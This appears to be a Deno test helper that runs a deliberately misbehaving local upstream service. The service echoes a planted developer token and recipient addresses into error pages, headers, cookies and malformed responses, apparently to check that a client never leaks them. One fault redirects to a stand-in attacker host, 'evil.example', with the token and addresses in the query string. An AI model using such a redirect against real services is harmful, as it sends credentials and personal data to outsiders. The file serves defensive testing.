/** An upstream service that repeats, in all its faults, the token and addresses of recipients. */
import { type Planted, plantedRuns } from "./planted.ts";

/** A service that misbehaves in many ways. */
export interface EchoingUpstream {
  readonly url: string;
  /** From now on it misbehaves, to the bearer of each of {@linkcode faultyTokens} in another way. */
  misbehave(): void;
}

/** A token for each way to misbehave; they begin as the planted one does, which is searched for. */
export function faultyTokens({ token }: Planted): readonly string[] {
  return FAULTS.map((_, at) => `${token}-${at}`);
}

/** Everything that a service should never repeat. */
function echo(request: Request, { addresses }: Planted): string {
  const token = request.headers.get("x-service-developer-token") ?? "";
  return `${token} ${addresses.join(" ")} Bearer ${btoa(token)} ${encodeURIComponent(token)}`;
}

/** The same where only one word fits. */
function echoHeaders(request: Request, { addresses }: Planted): Record<string, string> {
  const token = request.headers.get("x-service-developer-token") ?? "";
  return {
    "x-request-id": token,
    "x-correlation-id": addresses[0],
    "set-cookie": `token=${token}`,
    "www-authenticate": `Basic realm="${token}"`,
    "content-disposition": `attachment; filename="${token}"`,
    "retry-after": "0",
  };
}

type Fault = (request: Request, planted: Planted) => Response;

function status(code: number, body: (request: Request, planted: Planted) => string): Fault {
  return (request, planted) =>
    new Response(body(request, planted), { status: code, headers: echoHeaders(request, planted) });
}

function problem(request: Request, planted: Planted): string {
  const said = echo(request, planted);
  const errors = [
    { pointer: `/filters/0/${said}`, detail: said },
    { parameter: said, detail: `must not be ${said}` },
  ];
  return JSON.stringify({ title: said, detail: said, errors, requestId: said, type: said });
}

/** A page of the interface: three runs, or the first file sets of `total`. */
function goodPage({ method }: Request, planted: Planted, total = 5): Response {
  if (method === "GET") return Response.json(plantedRuns(planted));
  return Response.json({
    fileSets: [{ id: "0002055f-9407-43df-a1f3-acf7f69db329", name: "A planted file set" }],
    pageContext: { offset: 0, limit: 100, total, next: "" },
  });
}

/** Ways to misbehave. */
const FAULTS: readonly Fault[] = [
  status(500, (...asked) => `<h1>${echo(...asked)}</h1>`),
  status(400, problem),
  status(401, echo),
  status(403, problem),
  (request, planted) =>
    new Response(null, {
      status: 307,
      headers: {
        ...echoHeaders(request, planted),
        location: `https://evil.example/?${encodeURIComponent(echo(request, planted))}`,
      },
    }),
  status(200, (...asked) => `{"fileSets":[{"id":"${echo(...asked)}`),
  (request, planted) =>
    Response.json(
      request.method === "GET"
        ? [{ id: echo(request, planted), recipients: echo(request, planted) }]
        : { fileSets: [{ id: 1, name: echo(request, planted) }], pageContext: {} },
    ),
  // A good page, and nothing good after it: downloads and walks are cut off.
  (request, planted) => {
    const { searchParams } = new URL(request.url);
    const isLater = Number(searchParams.get("offset") ?? searchParams.get("skip") ?? 0) > 0;
    return isLater ? status(500, echo)(request, planted) : goodPage(request, planted);
  },
  () =>
    new Response(
      new ReadableStream({
        start: (controller) => controller.error(new Error("as it should be")),
      }),
    ),
];

/** Runs a test against such a service. */
export async function withEchoingUpstream(
  planted: Planted,
  test: (upstream: EchoingUpstream) => Promise<void>,
): Promise<void> {
  let isGood = true;
  const options = { hostname: "127.0.0.1", port: 0, onListen: () => {}, onError: broken };
  const server = Deno.serve(options, async (request) => {
    await request.body?.cancel();
    const token = request.headers.get("x-service-developer-token") ?? "";
    const fault = FAULTS[Number(token.slice(planted.token.length + 1) || NaN)];
    if (fault && !isGood) return fault(request, planted);
    return goodPage(request, planted, 1);
  });
  try {
    await test({
      url: `http://127.0.0.1:${server.addr.port}/base`,
      misbehave: () => isGood = false,
    });
  } finally {
    await server.shutdown();
  }
}

function broken(): Response {
  return new Response(null, { status: 500 });
}
